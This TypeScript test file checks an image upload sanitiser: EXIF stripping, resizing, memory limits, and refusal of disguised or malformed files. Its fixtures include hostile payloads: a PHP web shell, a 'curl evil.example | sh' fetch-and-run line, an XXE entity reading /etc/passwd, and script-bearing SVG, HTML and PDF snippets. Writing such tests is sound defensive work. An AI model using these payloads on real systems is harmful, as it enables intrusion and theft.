import { spawnSync } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";
import { describe, expect, it } from "vitest";
import { cleanImage, MAX_IMAGE_BYTES } from "./clean-image.ts";

const plain = (width = 40, height = 20) =>
  sharp({ create: { width, height, channels: 3, background: "#286" } });

/** Letters and lines on white, as in a screenshot of a bank's receipt. */
const drawing = () => {
  const lines = Array.from(
    { length: 40 },
    (_, i) =>
      `<text x="20" y="${30 + i * 24}" font-size="20" fill="#${((i * 91) % 900) + 100}">Receipt ${i * 7919}</text>`,
  );
  return sharp(
    Buffer.from(
      `<svg xmlns="http://www.w3.org/2000/svg" width="700" height="1000"><rect width="700" height="1000" fill="#fff"/>${lines.join("")}</svg>`,
    ),
  );
};

/** Soft colours with some grain. */
const photograph = (channels: 3 | 4) => {
  const [width, height] = [600, 400];
  const bytes = Buffer.alloc(width * height * channels);
  for (let i = 0; i < bytes.length; i++) {
    const pixel = Math.floor(i / channels);
    const [x, y] = [pixel % width, Math.floor(pixel / width)];
    bytes[i] = 128 + 90 * Math.sin(x / 90 + (i % channels)) * Math.cos(y / 70) + ((i * 2654435761) % 11);
  }
  return sharp(bytes, { raw: { width, height, channels } });
};

/** Builds a PNG from its header's numbers and its deflated pixels, of colour type `type` (2: RGB, 6: RGBA). */
function getPng(
  [width, height]: [number, number],
  { bits = 8, type, interlaced = false }: { bits?: 8 | 16; type: 2 | 6; interlaced?: boolean },
  deflated: Buffer,
): Buffer {
  const chunk = (name: string, data: Buffer) => {
    const head = Buffer.alloc(8);
    head.writeUInt32BE(data.length);
    head.write(name, 4, "latin1");
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(Buffer.concat([Buffer.from(name, "latin1"), data])));
    return Buffer.concat([head, data, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([bits, type, 0, 0, Number(interlaced)], 8);
  const magic = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([
    magic,
    chunk("IHDR", header),
    chunk("IDAT", deflated),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

/** Builds a PNG whose header declares an enormous size. */
const enormousPng = () => getPng([50_000, 50_000], { type: 2 }, deflateSync(Buffer.alloc(1_000)));

/** Builds a complete black interlaced PNG: zeros, which libvips would take seconds to encode. */
function interlacedPng([width, height]: [number, number], bits: 8 | 16): Buffer {
  // The seven passes of Adam7: first column and row, and steps between them.
  const passes = [
    [0, 0, 8, 8],
    [4, 0, 8, 8],
    [0, 4, 4, 8],
    [2, 0, 4, 4],
    [0, 2, 2, 4],
    [1, 0, 2, 2],
    [0, 1, 1, 2],
  ] as const;
  const size = passes.reduce((sum, [left, top, across, down]) => {
    const [columns, rows] = [Math.ceil((width - left) / across), Math.ceil((height - top) / down)];
    return sum + rows * (1 + (columns * 4 * bits) / 8);
  }, 0);
  return getPng(
    [width, height],
    { bits, type: 6, interlaced: true },
    deflateSync(Buffer.alloc(size), { level: 1 }),
  );
}

/** Content hidden in a picture, or sent in its place. */
const BEHIND = (
  [
    ["a page", "<!doctype html><html><script>ran=1</script></html>"],
    ["an SVG", '<svg xmlns="http://www.w3.org/2000/svg" onload="ran=1"/>'],
    ["a ZIP", "PK\x03\x04 hidden.exe"],
    ["PHP", "<?php system($_GET['c']); ?>"],
    ["a PDF", "%PDF-1.7 1 0 obj << /OpenAction << /S /JavaScript >> >>"],
    ["a program", "MZ\x90\x00 This program cannot be run in DOS mode"],
    ["a shell script", "#!/bin/sh\ncurl evil.example | sh"],
    ["XML with an entity", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'],
  ] as const
).map(([what, text]) => [what, Buffer.from(text, "latin1")] as const);

/** Returns pictures with extra data, files that claim to be pictures, other formats, and broken pictures. */
async function hostilePictures(): Promise<Buffer[]> {
  const png = await plain().png().toBuffer();
  const jpeg = await plain().jpeg().toBuffer();
  const comment = (text: Buffer) => {
    const head = Buffer.from([0xff, 0xfe, 0, 0]);
    head.writeUInt16BE(text.length + 2, 2);
    return Buffer.concat([jpeg.subarray(0, 2), head, text, jpeg.subarray(2)]);
  };
  const others = await Promise.all([
    ...[plain().gif(), plain().webp(), plain().tiff(), plain().avif()].map((one) => one.toBuffer()),
    plain().raw().toBuffer(),
  ]);
  return [
    ...BEHIND.flatMap(([, text]) => [
      text,
      Buffer.concat([png, text]),
      Buffer.concat([jpeg, text]),
      comment(text),
      Buffer.concat([png.subarray(0, 8), text]),
      Buffer.concat([jpeg.subarray(0, 4), text]),
      Buffer.concat([Buffer.from("GIF89a"), text]),
    ]),
    ...[png, jpeg].flatMap((one) => [
      one.subarray(0, 20),
      Buffer.concat([Buffer.from(" "), one]),
      Buffer.from(one.toString("latin1"), "utf8"),
      Buffer.from(one.toString("base64")),
    ]),
    ...others,
    enormousPng(),
    Buffer.alloc(0),
    Buffer.alloc(4_096),
  ];
}

describe("an uploaded picture", () => {
  it.each(["png", "jpeg"] as const)("is accepted as %s, and re-encoded", async (format) => {
    const sent = await plain().toFormat(format).toBuffer();
    const kept = await cleanImage(sent);
    expect(kept?.contentType).toBe(`image/${format}`);
    expect(await sharp(kept?.bytes).metadata()).toMatchObject({ format, width: 40, height: 20 });
  });

  it("loses its EXIF data, including its location, and is rotated upright", async () => {
    const sent = await plain()
      .withExif({ IFD0: { Copyright: "Maria" }, IFD3: { GPSLatitude: "14/1 35/1 0/1" } })
      .withMetadata({ orientation: 6 })
      .jpeg()
      .toBuffer();
    expect((await sharp(sent).metadata()).orientation).toBe(6);
    const kept = await cleanImage(sent);
    const { exif, icc, xmp, orientation, width, height } = await sharp(kept?.bytes).metadata();
    expect({ exif, icc, xmp, orientation }).toEqual({});
    expect([width, height]).toEqual([20, 40]);
    expect(kept?.bytes.includes("Maria")).toBe(false);
  });

  it.each([
    ["a ZIP", Buffer.concat([Buffer.from("PK\x03\x04"), Buffer.from("evil payload of a zip")])],
    ["a page", Buffer.from("<html><script>alert(1)</script></html>")],
  ])("loses %s appended to it", async (_what, behind) => {
    for (const format of ["png", "jpeg"] as const) {
      const sent = Buffer.concat([await plain().toFormat(format).toBuffer(), behind]);
      const kept = await cleanImage(sent);
      expect(kept?.bytes.includes(behind) ?? false, format).toBe(false);
    }
  });

  it("is scaled down to at most 2,000 pixels a side", async () => {
    const kept = await cleanImage(await plain(4_000, 1_000).png().toBuffer());
    expect(await sharp(kept?.bytes).metadata()).toMatchObject({ width: 2_000, height: 500 });
  });

  it.each<[string, () => ReturnType<typeof sharp>]>([
    ["a screenshot with a palette", () => drawing().png({ palette: true, effort: 10, compressionLevel: 9 })],
    [
      "a drawing that was compressed hard",
      () => drawing().png({ compressionLevel: 9, adaptiveFiltering: true }),
    ],
    ["a photograph as PNG", () => photograph(3).png({ compressionLevel: 9, adaptiveFiltering: true })],
    [
      "a photograph one sees through",
      () => photograph(4).png({ compressionLevel: 9, adaptiveFiltering: true }),
    ],
    ["a JPEG of low quality", () => photograph(3).jpeg({ quality: 35, mozjpeg: true })],
  ])("is never stored larger than it was sent: %s", async (_what, make) => {
    const sent = await make().toBuffer();
    const kept = await cleanImage(sent);
    expect(kept?.bytes.length).toBeLessThanOrEqual(sent.length + 1_024);
    const { width, height } = await sharp(sent).metadata();
    expect(await sharp(kept?.bytes).metadata()).toMatchObject({ width, height });
  });

  it("is refused, or reduced to its pixels, for each of sixty hostile files", async () => {
    const hostile = await hostilePictures();
    expect(new Set(hostile.map((one) => one.toString("base64"))).size).toBeGreaterThanOrEqual(60);
    const came = { refused: 0, madeAnew: 0 };
    for (const sent of hostile) {
      const kept = await cleanImage(sent);
      came[kept ? "madeAnew" : "refused"]++;
      if (!kept) continue;
      const { format, width, height } = await sharp(kept.bytes).metadata();
      expect({ contentType: kept.contentType, width, height }).toEqual({
        contentType: `image/${format}`,
        width: 40,
        height: 20,
      });
      for (const [, behind] of BEHIND) expect(kept.bytes.includes(behind)).toBe(false);
    }
    // Both happen: a valid picture with extra data is stored without that data.
    expect(came.refused).toBeGreaterThan(30);
    expect(came.madeAnew).toBeGreaterThan(10);
  });

  it.each<[string, Buffer | Promise<Buffer>]>([
    ["nothing", Buffer.alloc(0)],
    ["a GIF", plain().gif().toBuffer()],
    ["a WebP", plain().webp().toBuffer()],
    ["a TIFF", plain().tiff().toBuffer()],
    ["an SVG", Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
    ["a page", Buffer.from("<!doctype html><title>x</title>")],
    ["a GIF that is a page too", Buffer.from("GIF89a/*<html>*/=1;")],
    ["the head of a PNG and nothing more", Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])],
    ["the head of a JPEG before a page", Buffer.from("\xff\xd8\xff<html>", "latin1")],
    ["a PNG of 50,000 by 50,000", enormousPng()],
    [
      "a cut-off JPEG",
      plain(200, 200)
        .jpeg()
        .toBuffer()
        .then((whole) => whole.subarray(0, 400)),
    ],
    [
      "more than 5 MB",
      plain()
        .png()
        .toBuffer()
        .then((whole) => Buffer.concat([whole, Buffer.alloc(MAX_IMAGE_BYTES)])),
    ],
  ])("is refused when it is %s", async (_what, sent) => {
    expect(await cleanImage(await sent)).toBeNull();
  });

  describe.runIf(process.platform === "linux")("uses less than 200 MiB", () => {
    const blank = (channels: 3 | 4, width = 8_000, height = 6_200) =>
      sharp({ create: { width, height, channels, background: "#286" } });

    it.each<[string, boolean, () => (Buffer | Promise<Buffer>)[]]>([
      [
        "of 50 megapixels as a telephone sends them, lying on their side",
        true,
        () => [blank(3).withMetadata({ orientation: 6 }).jpeg().toBuffer()],
      ],
      [
        "of 50 megapixels as a PNG on its side",
        true,
        () => [blank(4).withMetadata({ orientation: 5 }).png().toBuffer()],
      ],
      [
        "interlaced, of 100 MiB when decoded: a PNG, one of 16 bits, a progressive JPEG on its side",
        false,
        () => [
          interlacedPng([5_200, 5_100], 8),
          interlacedPng([4_000, 3_300], 16),
          blank(3, 6_000, 5_800).withMetadata({ orientation: 8 }).jpeg({ progressive: true }).toBuffer(),
        ],
      ],
    ])("%s", async (_what, isTaken, make) => {
      const folder = mkdtempSync(path.join(tmpdir(), "marquee-picture-"));
      const files: string[] = [];
      for (const sent of make()) {
        files.push(path.join(folder, String(files.length)));
        writeFileSync(files.at(-1) ?? "", await sent);
      }
      const { stdout } = spawnSync(process.execPath, ["--input-type=module", "-e", MEASURE, ...files], {
        encoding: "utf8",
      });
      rmSync(folder, { recursive: true });
      for (const { taken, mebibytes } of JSON.parse(stdout) as { taken: boolean; mebibytes: number }[]) {
        expect(taken).toBe(isTaken);
        expect(mebibytes).toBeLessThan(200);
      }
    });
  });
});

/** A separate process, which prints the growth of its peak memory after each picture. */
const MEASURE = `
  import { readFileSync } from "node:fs";
  import { cleanImage } from "./app/platform/payments/clean-image.ts";
  const peak = () => Number(/VmHWM:\\s+(\\d+)/.exec(readFileSync("/proc/self/status", "utf8"))[1]) / 1024;
  const { default: sharp } = await import("sharp");
  await cleanImage(await sharp({ create: { width: 9, height: 9, channels: 3, background: "red" } }).jpeg().toBuffer());
  const before = peak();
  const grown = [];
  for (const file of process.argv.slice(1)) {
    const taken = (await cleanImage(readFileSync(file))) !== null;
    grown.push({ taken, mebibytes: peak() - before });
  }
  console.log(JSON.stringify(grown));
`;
